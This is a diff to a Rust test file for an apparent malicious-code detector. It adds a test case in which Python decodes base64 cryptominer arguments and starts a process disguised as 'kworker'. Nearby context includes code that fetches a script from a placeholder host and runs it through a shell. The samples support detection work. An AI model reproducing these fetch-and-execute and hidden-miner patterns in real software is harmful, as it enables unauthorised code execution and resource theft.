@@ -1526,6 +1526,11 @@ fn object_model_descriptors_records_deques_and_web_requests() {
         "CRD102",
         "import subprocess, urllib.request\ncode = urllib.request.urlopen('https://x.example.net/c').read().decode()\nsubprocess.run(['mksh', '-c', code])\nsubprocess.run(['flock', '/tmp/l', 'sh', '-c', code])\n",
     );
+    // Arguments hidden by an encoding still count, though arguments are data otherwise.
+    fires(
+        "CRD103",
+        "import base64, subprocess\nargs = base64.b64decode('LW8gc3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGUubmV0OjQ0NDQ=').decode()\nsubprocess.Popen(['/tmp/.cache/kworker'] + args.split())\n",
+    );
     // A web shell: a request's parameter run by the shell.
     fires(
         "CRD102",
